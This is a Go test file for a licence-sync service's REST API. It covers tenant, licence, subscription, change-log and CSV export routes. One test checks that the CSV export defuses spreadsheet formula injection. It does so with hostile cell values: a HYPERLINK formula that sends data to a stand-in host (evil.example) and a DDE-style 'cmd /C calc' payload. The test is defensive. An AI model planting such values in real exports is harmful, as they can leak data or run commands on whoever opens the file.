package psaapi_test

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/seatsync/seatsync/functions/psaapi"
	"github.com/seatsync/seatsync/shared/seatsync"
)

var (
	licenseFields = sorted("skuId", "skuPartNumber", "productName", "enabled", "suspended", "warning", "lockedOut",
		"consumed", "available", "capabilityStatus", "appliesTo", "subscriptionIds", "syncedAt")
	tenantLicenseFields = sorted(append([]string{"tenantId", "tenantName"}, licenseFields...)...)
	subscriptionFields  = sorted("subscriptionId", "commerceSubscriptionId", "skuId", "skuPartNumber", "productName",
		"quantity", "status", "isTrial", "createdAt", "nextLifecycleAt")
	subscriptionBilling = sorted(append([]string{"billingCycle", "termDuration", "commitmentEndAt", "autoRenew"},
		subscriptionFields...)...)
	countsFields = sorted("licensedUsers", "enabledUsers", "syncedAt")
	changeFields = sorted("tenantId", "skuId", "skuPartNumber", "field", "from", "to", "detectedAt", "runId")
	runFields    = sorted("runId", "trigger", "status", "startedAt", "finishedAt", "tenantsTotal", "tenantsSucceeded",
		"tenantsFailed")
)

// listItems decodes a list body: only "value" at the top (no route here
// pages), and its items.
func listItems(t *testing.T, raw []byte) []json.RawMessage {
	t.Helper()
	keys, m := objectKeys(t, raw)
	if !slices.Equal(keys, []string{"value"}) {
		t.Errorf("list fields = %v, want [value]", keys)
	}
	var items []json.RawMessage
	if err := json.Unmarshal(m["value"], &items); err != nil || items == nil {
		t.Fatalf("value = %s (%v), want an array", m["value"], err)
	}
	return items
}

// fields asserts an item's field set and some of its values (as JSON).
func fields(t *testing.T, item json.RawMessage, want []string, values map[string]string) {
	t.Helper()
	keys, m := objectKeys(t, item)
	if !slices.Equal(keys, want) {
		t.Errorf("fields = %v, want %v", keys, want)
	}
	for k, v := range values {
		if got := string(m[k]); got != v {
			t.Errorf("%s = %s, want %s", k, got, v)
		}
	}
}

func TestTenantRoutes(t *testing.T) {
	upperA := strings.ToUpper(tenantA)
	tests := []struct {
		name   string
		target string
		status int
		code   string // for errors
		msg    string // a part of the error message
		calls  []string
		check  func(t *testing.T, body []byte)
	}{
		{name: "tenant", target: "/api/v1/tenants/" + tenantA, status: 200, calls: []string{"Tenant " + tenantA},
			check: func(t *testing.T, body []byte) {
				fields(t, body, tenantFields, map[string]string{"tenantId": `"` + tenantA + `"`, "relationships": `["gdap","csp"]`,
					"lastSyncedAt": `"2026-03-15T02:00:05.123Z"`, "status": `"error"`,
					"lastError": `{"code":"gdap_roles","message":"The GDAP relationship lacks the Global Reader role."}`})
			}},
		{name: "bare tenant: relationships [] not null", target: "/api/v1/tenants/" + tenantB, status: 200, calls: []string{"Tenant " + tenantB},
			check: func(t *testing.T, body []byte) {
				fields(t, body, tenantFields, map[string]string{"relationships": `[]`, "lastSyncedAt": `null`, "lastError": `null`, "displayName": `""`})
			}},
		{name: "upper-case id is looked up in lower case", target: "/api/v1/tenants/" + upperA, status: 200, calls: []string{"Tenant " + tenantA}},
		{name: "unknown tenant", target: "/api/v1/tenants/" + tenantC, status: 404, code: seatsync.ENotFound, msg: "No customer tenant",
			calls: []string{"Tenant " + tenantC}},
		{name: "not a GUID", target: "/api/v1/tenants/contoso", status: 400, code: seatsync.EInvalid, msg: `"contoso" is not a tenant id`},
		{name: "GUID with a bad digit", target: "/api/v1/tenants/aaaaaaaa-0000-4000-8000-00000000000g", status: 400, code: seatsync.EInvalid},
		{name: "GUID too long", target: "/api/v1/tenants/" + tenantA + "0", status: 400, code: seatsync.EInvalid},
		{name: "escaped slash", target: "/api/v1/tenants/aaaaaaaa-0000-4000-8000%2F000000000001", status: 400, code: seatsync.EInvalid},
		{name: "braced GUID", target: "/api/v1/tenants/%7B" + tenantA + "%7D", status: 400, code: seatsync.EInvalid},

		{name: "licenses", target: "/api/v1/tenants/" + tenantA + "/licenses", status: 200,
			calls: []string{"Tenant " + tenantA, "Licenses " + tenantA},
			check: func(t *testing.T, body []byte) {
				items := listItems(t, body)
				if len(items) != 2 {
					t.Fatalf("%d items, want 2", len(items))
				}
				// The store's tenantId and tenantName are not repeated.
				fields(t, items[0], licenseFields, map[string]string{"skuId": `"` + skuE3 + `"`, "skuPartNumber": `"ENTERPRISEPACK"`,
					"productName": `"Office 365 E3"`, "enabled": `25`, "suspended": `1`, "warning": `2`, "lockedOut": `3`,
					"consumed": `27`, "available": `-2`, "capabilityStatus": `"Enabled"`, "appliesTo": `"User"`,
					"subscriptionIds": `["sub-1","sub-2"]`, "syncedAt": `"2026-03-15T02:00:05.123Z"`})
				fields(t, items[1], licenseFields, map[string]string{"subscriptionIds": `[]`})
			}},
		{name: "licenses at a past day", target: "/api/v1/tenants/" + tenantA + "/licenses?at=2026-03-01", status: 200,
			calls: []string{"Tenant " + tenantA, "LicensesAt " + tenantA + " 2026-03-01T00:00:00Z"},
			check: func(t *testing.T, body []byte) {
				if items := listItems(t, body); len(items) != 1 {
					t.Errorf("%d items, want the day's 1", len(items))
				}
			}},
		{name: "licenses at today", target: "/api/v1/tenants/" + tenantA + "/licenses?at=2026-03-15", status: 200,
			calls: []string{"Tenant " + tenantA, "LicensesAt " + tenantA + " 2026-03-15T00:00:00Z"},
			check: func(t *testing.T, body []byte) {
				if got := strings.TrimSpace(string(body)); got != `{"value":[]}` {
					t.Errorf("body = %s, want an empty list", got)
				}
			}},
		{name: "licenses at tomorrow", target: "/api/v1/tenants/" + tenantA + "/licenses?at=2026-03-16", status: 400, code: seatsync.EInvalid, msg: "future"},
		{name: "licenses at next year", target: "/api/v1/tenants/" + tenantA + "/licenses?at=2027-01-01", status: 400, code: seatsync.EInvalid, msg: "future"},
		{name: "licenses at no date", target: "/api/v1/tenants/" + tenantA + "/licenses?at=", status: 400, code: seatsync.EInvalid, msg: "YYYY-MM-DD"},
		{name: "licenses at a short date", target: "/api/v1/tenants/" + tenantA + "/licenses?at=2026-3-1", status: 400, code: seatsync.EInvalid},
		{name: "licenses at 30 February", target: "/api/v1/tenants/" + tenantA + "/licenses?at=2026-02-30", status: 400, code: seatsync.EInvalid},
		{name: "licenses at a time", target: "/api/v1/tenants/" + tenantA + "/licenses?at=2026-03-01T00:00:00Z", status: 400, code: seatsync.EInvalid},
		{name: "licenses at another format", target: "/api/v1/tenants/" + tenantA + "/licenses?at=01/03/2026", status: 400, code: seatsync.EInvalid},
		{name: "licenses of an unknown tenant", target: "/api/v1/tenants/" + tenantC + "/licenses", status: 404, code: seatsync.ENotFound,
			calls: []string{"Tenant " + tenantC}},
		{name: "licenses, bad id", target: "/api/v1/tenants/x/licenses", status: 400, code: seatsync.EInvalid},
		{name: "licenses of a tenant without any", target: "/api/v1/tenants/" + tenantB + "/licenses", status: 200,
			calls: []string{"Tenant " + tenantB, "Licenses " + tenantB},
			check: func(t *testing.T, body []byte) {
				if got := strings.TrimSpace(string(body)); got != `{"value":[]}` {
					t.Errorf("body = %s, want {\"value\":[]}", got)
				}
			}},

		{name: "subscriptions", target: "/api/v1/tenants/" + tenantA + "/subscriptions", status: 200,
			calls: []string{"Tenant " + tenantA, "Subscriptions " + tenantA},
			check: func(t *testing.T, body []byte) {
				items := listItems(t, body)
				if len(items) != 2 {
					t.Fatalf("%d items, want 2", len(items))
				}
				fields(t, items[0], subscriptionBilling, map[string]string{"quantity": `20`, "billingCycle": `"annual"`,
					"termDuration": `"P1Y"`, "autoRenew": `false`, "commitmentEndAt": `"2026-09-15T02:00:05.123Z"`,
					"createdAt": `"2025-03-15T02:00:05.123Z"`, "isTrial": `false`})
				// Without Partner Center's terms: those fields are absent.
				fields(t, items[1], subscriptionFields, map[string]string{"createdAt": `null`, "nextLifecycleAt": `null`,
					"commerceSubscriptionId": `""`, "isTrial": `true`})
			}},
		{name: "subscriptions of an unknown tenant", target: "/api/v1/tenants/" + tenantC + "/subscriptions", status: 404, code: seatsync.ENotFound,
			calls: []string{"Tenant " + tenantC}},
		{name: "subscriptions, bad id", target: "/api/v1/tenants/1/subscriptions", status: 400, code: seatsync.EInvalid},
		{name: "subscriptions, none", target: "/api/v1/tenants/" + tenantB + "/subscriptions", status: 200,
			calls: []string{"Tenant " + tenantB, "Subscriptions " + tenantB},
			check: func(t *testing.T, body []byte) {
				if len(listItems(t, body)) != 0 {
					t.Error("want no items")
				}
			}},

		{name: "counts", target: "/api/v1/tenants/" + tenantA + "/counts", status: 200,
			calls: []string{"Tenant " + tenantA, "Counts " + tenantA},
			check: func(t *testing.T, body []byte) {
				fields(t, body, countsFields, map[string]string{"licensedUsers": `31`, "enabledUsers": `40`, "syncedAt": `"2026-03-15T02:00:05.123Z"`})
			}},
		{name: "counts of a tenant never synced", target: "/api/v1/tenants/" + tenantB + "/counts", status: 404, code: seatsync.ENotFound,
			msg: "has not been synced yet", calls: []string{"Tenant " + tenantB, "Counts " + tenantB}},
		{name: "counts of an unknown tenant", target: "/api/v1/tenants/" + tenantC + "/counts", status: 404, code: seatsync.ENotFound,
			msg: "No customer tenant", calls: []string{"Tenant " + tenantC}},
		{name: "counts, bad id", target: "/api/v1/tenants/%20/counts", status: 400, code: seatsync.EInvalid},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			a := newFullAPI()
			rec := a.do(http.MethodGet, tc.target)
			if tc.code != "" {
				msg := checkError(t, rec, tc.status, tc.code)
				if !strings.Contains(msg, tc.msg) {
					t.Errorf("message %q does not say %q", msg, tc.msg)
				}
			} else {
				checkJSON(t, rec, tc.status)
			}
			if !slices.Equal(a.lic.calls, tc.calls) {
				t.Errorf("calls = %q, want %q", a.lic.calls, tc.calls)
			}
			if tc.check != nil {
				tc.check(t, rec.Body.Bytes())
			}
		})
	}
}

func TestLicenceStoreErrors(t *testing.T) {
	for _, target := range []string{
		"/api/v1/tenants/" + tenantA + "/licenses",
		"/api/v1/tenants/" + tenantA + "/licenses?at=2026-03-01",
		"/api/v1/tenants/" + tenantA + "/subscriptions",
		"/api/v1/tenants/" + tenantA + "/counts",
		"/api/v1/licenses",
		"/api/v1/licenses?format=csv",
		"/api/v1/changes?since=2026-03-01T00:00:00Z",
	} {
		t.Run(target, func(t *testing.T) {
			a := newFullAPI()
			a.lic.err = errors.New("tables: query licences: dial tcp 10.0.0.9:10002: refused")
			rec := a.do(http.MethodGet, target)
			checkError(t, rec, http.StatusInternalServerError, seatsync.EInternal)
			if strings.Contains(rec.Body.String(), "10.0.0.9") {
				t.Errorf("detail in body: %s", rec.Body)
			}
			if !strings.Contains(a.log.String(), "10.0.0.9") {
				t.Errorf("detail not logged:\n%s", a.log)
			}
		})
	}
}

func TestAllLicensesJSON(t *testing.T) {
	tests := []struct {
		name   string
		query  string
		header []string
		call   string
		skus   []string // tenantId/skuId of each row
	}{
		{name: "all", call: "AllLicenses tenant= sku=", skus: []string{tenantA + "/" + skuE3, tenantA + "/" + skuBP, tenantB + "/" + skuE3}},
		{name: "one tenant", query: "?tenantId=" + strings.ToUpper(tenantB), call: "AllLicenses tenant=" + tenantB + " sku=",
			skus: []string{tenantB + "/" + skuE3}},
		{name: "one SKU", query: "?skuId=" + skuE3, call: "AllLicenses tenant= sku=" + skuE3,
			skus: []string{tenantA + "/" + skuE3, tenantB + "/" + skuE3}},
		{name: "both", query: "?skuId=" + skuBP + "&tenantId=" + tenantA, call: "AllLicenses tenant=" + tenantA + " sku=" + skuBP,
			skus: []string{tenantA + "/" + skuBP}},
		{name: "no match", query: "?tenantId=" + tenantC, call: "AllLicenses tenant=" + tenantC + " sku=", skus: []string{}},
		{name: "format=json", query: "?format=json", call: "AllLicenses tenant= sku=", skus: []string{tenantA + "/" + skuE3, tenantA + "/" + skuBP, tenantB + "/" + skuE3}},
		{name: "format=json wins over Accept", query: "?format=json&tenantId=" + tenantB, header: []string{"Accept", "text/csv"},
			call: "AllLicenses tenant=" + tenantB + " sku=", skus: []string{tenantB + "/" + skuE3}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			a := newFullAPI()
			rec := a.send(http.MethodGet, "/api/v1/licenses"+tc.query, "", tc.header...)
			checkJSON(t, rec, http.StatusOK)
			if want := []string{tc.call}; !slices.Equal(a.lic.calls, want) {
				t.Errorf("calls = %q, want %q", a.lic.calls, want)
			}
			if got := rec.Result().Header.Get("Vary"); got != "Accept" {
				t.Errorf("Vary = %q, want Accept", got)
			}
			var got []string
			for _, item := range listItems(t, rec.Body.Bytes()) {
				// tenantId and tenantName are always there, even when the
				// tenant has no name.
				keys, m := objectKeys(t, item)
				if !slices.Equal(keys, tenantLicenseFields) {
					t.Errorf("fields = %v, want %v", keys, tenantLicenseFields)
				}
				var id, sku string
				_ = json.Unmarshal(m["tenantId"], &id)
				_ = json.Unmarshal(m["skuId"], &sku)
				got = append(got, id+"/"+sku)
				if id == tenantB && string(m["tenantName"]) != `""` {
					t.Errorf("tenantName = %s, want \"\"", m["tenantName"])
				}
				if id == tenantA && string(m["tenantName"]) != `"Contoso"` {
					t.Errorf("tenantName = %s, want \"Contoso\"", m["tenantName"])
				}
				if sku == skuBP && string(m["subscriptionIds"]) != `[]` {
					t.Errorf("subscriptionIds = %s, want []", m["subscriptionIds"])
				}
			}
			if !slices.Equal(nonNilStrings(got), tc.skus) {
				t.Errorf("rows = %v, want %v", got, tc.skus)
			}
		})
	}
}

func nonNilStrings(s []string) []string {
	if s == nil {
		return []string{}
	}
	return s
}

func TestAllLicensesRefused(t *testing.T) {
	tests := []struct{ query, msg string }{
		{"?format=xml", "format must be json or csv"},
		{"?format=", "format must be json or csv"},
		{"?format=csv2", "format must be json or csv"},
		{"?tenantId=contoso", "tenantId must be a tenant id"},
		{"?tenantId=", "tenantId must be a tenant id"},
		{"?skuId=ENTERPRISEPACK", "skuId must be a SKU id"},
		{"?skuId=" + skuE3 + "&tenantId=" + tenantA + "x", "tenantId"},
		{"?format=csv&skuId=1", "skuId"},
	}
	for _, tc := range tests {
		t.Run(tc.query, func(t *testing.T) {
			a := newFullAPI()
			rec := a.do(http.MethodGet, "/api/v1/licenses"+tc.query)
			if msg := checkError(t, rec, http.StatusBadRequest, seatsync.EInvalid); !strings.Contains(msg, tc.msg) {
				t.Errorf("message %q does not say %q", msg, tc.msg)
			}
			a.noCalls(t)
		})
	}
}

// readCSV parses a CSV response after checking its headers.
func readCSV(t *testing.T, rec interface {
	Result() *http.Response
}, body string) [][]string {
	t.Helper()
	h := rec.Result().Header
	if got := h.Get("Content-Type"); got != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type = %q", got)
	}
	if got := h.Get("Content-Disposition"); got != `attachment; filename="seatsync-licenses.csv"` {
		t.Errorf("Content-Disposition = %q", got)
	}
	if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cache-Control") != "no-store" {
		t.Errorf("headers = %v", h)
	}
	r := csv.NewReader(strings.NewReader(body))
	r.FieldsPerRecord = len(psaapi.CSVColumns)
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	return records
}

func TestAllLicensesCSV(t *testing.T) {
	a := newFullAPI()
	rec := a.do(http.MethodGet, "/api/v1/licenses?format=csv")
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	if !strings.HasSuffix(rec.Body.String(), "\r\n") {
		t.Errorf("lines do not end in CRLF (RFC 4180)")
	}
	records := readCSV(t, rec, rec.Body.String())
	wantHeader := []string{"tenantId", "tenantName", "skuId", "skuPartNumber", "productName", "enabled", "suspended",
		"warning", "lockedOut", "consumed", "available", "capabilityStatus", "appliesTo", "subscriptionIds", "syncedAt"}
	if len(records) != 4 {
		t.Fatalf("%d records, want a header and 3 rows", len(records))
	}
	if !slices.Equal(records[0], wantHeader) {
		t.Errorf("header = %v, want %v", records[0], wantHeader)
	}
	want := [][]string{
		{tenantA, "Contoso", skuE3, "ENTERPRISEPACK", "Office 365 E3", "25", "1", "2", "3", "27", "-2", "Enabled", "User", "sub-1;sub-2", "2026-03-15T02:00:05.123Z"},
		{tenantA, "Contoso", skuBP, "O365_BUSINESS_PREMIUM", "Microsoft 365 Business Standard", "10", "0", "0", "0", "4", "6", "Warning", "User", "", "2026-03-15T02:00:05.123Z"},
		{tenantB, "", skuE3, "ENTERPRISEPACK", "Office 365 E3", "5", "0", "0", "0", "5", "0", "Enabled", "User", "", "2026-03-15T02:00:05.123Z"},
	}
	for i, w := range want {
		if !slices.Equal(records[i+1], w) {
			t.Errorf("row %d = %q\nwant     %q", i+1, records[i+1], w)
		}
	}

	// The CSV has the same columns as the JSON: compare field by field.
	j := a.do(http.MethodGet, "/api/v1/licenses")
	for i, item := range listItems(t, j.Body.Bytes()) {
		_, m := objectKeys(t, item)
		for c, name := range records[0] {
			var v any
			if err := json.Unmarshal(m[name], &v); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			var s string
			switch v := v.(type) {
			case string:
				s = v
			case float64:
				s = jsonNumber(v)
			case []any:
				var parts []string
				for _, p := range v {
					parts = append(parts, p.(string))
				}
				s = strings.Join(parts, ";")
			}
			if records[i+1][c] != s {
				t.Errorf("row %d %s: CSV %q, JSON %q", i+1, name, records[i+1][c], s)
			}
		}
	}
}

func jsonNumber(f float64) string {
	b, _ := json.Marshal(f)
	return string(b)
}

func TestAllLicensesCSVFormulaInjection(t *testing.T) {
	a := newFullAPI()
	evil := seatsync.License{TenantID: tenantA, TenantName: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		SkuID: skuE3, SkuPartNumber: "+SUM(1,2)", ProductName: "-2+3+cmd|' /C calc'!A0", CapabilityStatus: "@SUM(1)",
		AppliesTo: "\t=1+1", SubscriptionIDs: []string{"=evil", "sub-9"}, Available: -4, Consumed: 0, Enabled: -1}
	plain := seatsync.License{TenantID: tenantB, TenantName: `Fabrikam, "Ltd"` + "\nline two", SkuID: skuBP,
		SkuPartNumber: "A=B", ProductName: "'quoted already", CapabilityStatus: "Enabled", AppliesTo: "\r=1+1"}
	a.lic.all = []seatsync.License{evil, plain}
	rec := a.send(http.MethodGet, "/api/v1/licenses", "", "Accept", "text/csv")
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	records := readCSV(t, rec, rec.Body.String())
	if len(records) != 3 {
		t.Fatalf("%d records, want 3", len(records))
	}
	col := func(row int, name string) string { return records[row][slices.Index(psaapi.CSVColumns, name)] }
	tests := []struct {
		row        int
		name, want string
	}{
		{1, "tenantName", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{1, "skuPartNumber", "'+SUM(1,2)"},
		{1, "productName", "'-2+3+cmd|' /C calc'!A0"},
		{1, "capabilityStatus", "'@SUM(1)"},
		{1, "appliesTo", "'\t=1+1"},
		{1, "subscriptionIds", "'=evil;sub-9"},
		// Numbers are ours: a negative quantity stays a number.
		{1, "available", "-4"},
		{1, "enabled", "-1"},
		{1, "consumed", "0"},
		{1, "tenantId", tenantA},
		// Text that does not start a formula is kept as it is, and CSV
		// quoting round-trips commas, quotes and new lines.
		{2, "tenantName", "Fabrikam, \"Ltd\"\nline two"},
		{2, "skuPartNumber", "A=B"},
		{2, "productName", "'quoted already"},
		// A lone carriage return is dropped by encoding/csv in CRLF mode;
		// the quote put before it still leads the cell.
		{2, "appliesTo", "'=1+1"},
	}
	for _, tc := range tests {
		// encoding/csv writes a new line in a field as \r\n and reads it
		// back as \n.
		if got := col(tc.row, tc.name); got != tc.want {
			t.Errorf("row %d %s = %q, want %q", tc.row, tc.name, got, tc.want)
		}
	}
	// No cell of the whole file starts a formula.
	for i, r := range records[1:] {
		for c, v := range r {
			if psaapi.CSVColumns[c] == "available" || psaapi.CSVColumns[c] == "enabled" {
				continue
			}
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("row %d %s = %q starts a formula", i+1, psaapi.CSVColumns[c], v)
			}
		}
	}
}

func TestAllLicensesFormatSelection(t *testing.T) {
	tests := []struct {
		query, accept string
		csv           bool
	}{
		{"", "", false},
		{"", "application/json", false},
		{"", "*/*", false},
		{"", "text/csv", true},
		{"", "text/csv; charset=utf-8", true},
		{"", "TEXT/CSV", true},
		{"", "text/csv;q=0", false},
		{"", "text/csv, application/json", false}, // a tie: JSON, the default
		{"", "text/csv;q=0.5, application/json", false},
		{"", "application/json;q=0.1, text/csv", true},
		{"", "text/html, text/csv;q=0.9, */*;q=0.8", true},
		{"", "text/csv;q=abc", false},
		{"?format=csv", "", true},
		{"?format=CSV", "application/json", true},
		{"?format=Json", "text/csv", false},
	}
	for _, tc := range tests {
		t.Run(tc.query+" "+tc.accept, func(t *testing.T) {
			a := newFullAPI()
			rec := a.send(http.MethodGet, "/api/v1/licenses"+tc.query, "", "Accept", tc.accept)
			if rec.Code != http.StatusOK {
				t.Fatalf("status %d", rec.Code)
			}
			ct := rec.Result().Header.Get("Content-Type")
			if got := strings.HasPrefix(ct, "text/csv"); got != tc.csv {
				t.Errorf("Content-Type = %q, want CSV %v", ct, tc.csv)
			}
		})
	}
}

func TestChanges(t *testing.T) {
	tests := []struct {
		name  string
		query string
		call  string // "" when refused
		msg   string // for refusals
	}{
		{name: "since only: until is now", query: "?since=2026-03-01T00:00:00Z",
			call: "Changes 2026-03-01T00:00:00Z 2026-03-15T10:30:00Z"},
		{name: "since and until", query: "?since=2026-03-01T00:00:00Z&until=2026-03-02T12:00:00.5Z",
			call: "Changes 2026-03-01T00:00:00Z 2026-03-02T12:00:00.5Z"},
		{name: "offsets become UTC", query: "?since=2026-03-01T02:00:00%2B02:00&until=2026-03-01T20:00:00-05:00",
			call: "Changes 2026-03-01T00:00:00Z 2026-03-02T01:00:00Z"},
		{name: "an unescaped + (a space)", query: "?since=2026-03-01T02:00:00+02:00",
			call: "Changes 2026-03-01T00:00:00Z 2026-03-15T10:30:00Z"},
		{name: "an empty window", query: "?since=2026-03-01T00:00:00Z&until=2026-03-01T00:00:00Z",
			call: "Changes 2026-03-01T00:00:00Z 2026-03-01T00:00:00Z"},
		{name: "366 days", query: "?since=2025-01-01T00:00:00Z&until=2026-01-02T00:00:00Z",
			call: "Changes 2025-01-01T00:00:00Z 2026-01-02T00:00:00Z"},
		{name: "since in the future", query: "?since=2026-04-01T00:00:00Z&until=2026-05-01T00:00:00Z",
			call: "Changes 2026-04-01T00:00:00Z 2026-05-01T00:00:00Z"},

		{name: "no since", query: "", msg: "since is required"},
		{name: "only until", query: "?until=2026-03-01T00:00:00Z", msg: "since is required"},
		{name: "empty since", query: "?since=", msg: "since must be an RFC 3339 time"},
		{name: "a date", query: "?since=2026-03-01", msg: "since must be an RFC 3339 time"},
		{name: "no zone", query: "?since=2026-03-01T00:00:00", msg: "since must be an RFC 3339 time"},
		{name: "unix time", query: "?since=1772323200", msg: "since must be an RFC 3339 time"},
		{name: "bad until", query: "?since=2026-03-01T00:00:00Z&until=tomorrow", msg: "until must be an RFC 3339 time"},
		{name: "until before since", query: "?since=2026-03-02T00:00:00Z&until=2026-03-01T23:59:59Z", msg: "is before since"},
		{name: "since after now", query: "?since=2026-03-16T00:00:00Z", msg: "is before since"},
		{name: "over 366 days", query: "?since=2025-01-01T00:00:00Z&until=2026-01-02T00:00:01Z", msg: "over 366 days"},
		{name: "over 366 days to now", query: "?since=2020-01-01T00:00:00Z", msg: "over 366 days"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			a := newFullAPI()
			rec := a.do(http.MethodGet, "/api/v1/changes"+tc.query)
			if tc.call == "" {
				if msg := checkError(t, rec, http.StatusBadRequest, seatsync.EInvalid); !strings.Contains(msg, tc.msg) {
					t.Errorf("message %q does not say %q", msg, tc.msg)
				}
				a.noCalls(t)
				return
			}
			checkJSON(t, rec, http.StatusOK)
			if want := []string{tc.call}; !slices.Equal(a.lic.calls, want) {
				t.Errorf("calls = %q, want %q", a.lic.calls, want)
			}
		})
	}
}

func TestChangesBody(t *testing.T) {
	a := newFullAPI()
	rec := a.do(http.MethodGet, "/api/v1/changes?since=2026-03-01T00:00:00Z")
	checkJSON(t, rec, http.StatusOK)
	items := listItems(t, rec.Body.Bytes())
	if len(items) != 2 {
		t.Fatalf("%d items, want 2", len(items))
	}
	// Oldest first, whatever order the store gave.
	fields(t, items[0], changeFields, map[string]string{"field": `"enabled"`, "from": `12`, "to": `10`,
		"detectedAt": `"2026-03-14T02:00:05.123Z"`, "runId": `"` + runLive + `"`, "skuPartNumber": `"O365_BUSINESS_PREMIUM"`})
	fields(t, items[1], changeFields, map[string]string{"field": `"consumed"`, "from": `26`, "to": `27`,
		"tenantId": `"` + tenantA + `"`, "skuId": `"` + skuE3 + `"`})

	a.lic.changes = nil
	rec = a.do(http.MethodGet, "/api/v1/changes?since=2026-03-01T00:00:00Z")
	if got := strings.TrimSpace(rec.Body.String()); got != `{"value":[]}` {
		t.Errorf("body = %s, want {\"value\":[]}", got)
	}
}

func TestPartsNotConfigured(t *testing.T) {
	tests := []struct {
		method, target, part string
	}{
		{http.MethodGet, "/api/v1/tenants/" + tenantA, "Licence data"},
		{http.MethodGet, "/api/v1/tenants/" + tenantA + "/licenses?at=2026-03-01", "Licence data"},
		{http.MethodGet, "/api/v1/tenants/" + tenantA + "/subscriptions", "Licence data"},
		{http.MethodGet, "/api/v1/tenants/" + tenantA + "/counts", "Licence data"},
		{http.MethodGet, "/api/v1/licenses?format=csv", "Licence data"},
		{http.MethodGet, "/api/v1/changes?since=2026-03-01T00:00:00Z", "Licence data"},
		{http.MethodPost, "/api/v1/sync", "Starting a sync"},
		{http.MethodGet, "/api/v1/sync/runs/latest", "Sync runs"},
		{http.MethodGet, "/api/v1/sync/runs/" + runDone, "Sync runs"},
	}
	for _, tc := range tests {
		t.Run(tc.method+" "+tc.target, func(t *testing.T) {
			for _, opts := range []*psaapi.Options{nil, {PublicURL: "https://x.example"}} {
				a := newAPI(&fakeStore{}, opts)
				rec := a.do(tc.method, tc.target)
				msg := checkError(t, rec, http.StatusServiceUnavailable, psaapi.CodeNotConfigured)
				if !strings.HasPrefix(msg, tc.part) || !strings.Contains(msg, "not configured") {
					t.Errorf("message %q: want it to say %q is not configured", msg, tc.part)
				}
			}
		})
	}
	// What needs only the store still works.
	a := newAPI(&fakeStore{}, nil)
	for _, target := range []string{"/api/v1/connection", "/api/v1/tenants", "/api/v1/openapi.json"} {
		checkJSON(t, a.do(http.MethodGet, target), http.StatusOK)
	}
}
